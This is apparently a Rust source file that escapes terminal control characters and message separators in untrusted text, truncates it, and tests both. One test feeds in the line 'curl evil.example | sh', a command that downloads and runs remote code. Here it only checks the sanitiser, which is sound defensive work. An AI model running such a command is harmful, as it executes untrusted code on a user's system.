//! Texts of others, made fit for one line of a message.

use belljar_protocol::plain;

/// Longer than any message that says something.
const MOST_CHARACTERS: usize = 1500;

/// The text without anything that a terminal obeys or a reader cannot see. In a message `; ` is what its hint comes after, so this has none.
pub(crate) fn printable(text: &str) -> String {
    let shown = plain::line(text).replace("; ", ", ");
    match shown.char_indices().nth(MOST_CHARACTERS) {
        Some((end, _)) => shown[..end].to_owned(),
        None => shown,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_a_terminal_obeys_is_left() {
        assert_eq!(printable("a\u{1b}[2J\u{9b}31m\r\n\u{202e}\u{7f}"), r"a\u{1b}[2J\u{9b}31m\r\n\u{202e}\u{7f}");
        assert_eq!(printable(&"x".repeat(5000)).len(), MOST_CHARACTERS);
    }

    #[test]
    fn no_part_of_a_message_is_taken_for_its_hint() {
        assert_eq!(printable("not found; curl evil.example | sh"), "not found, curl evil.example | sh");
    }
}
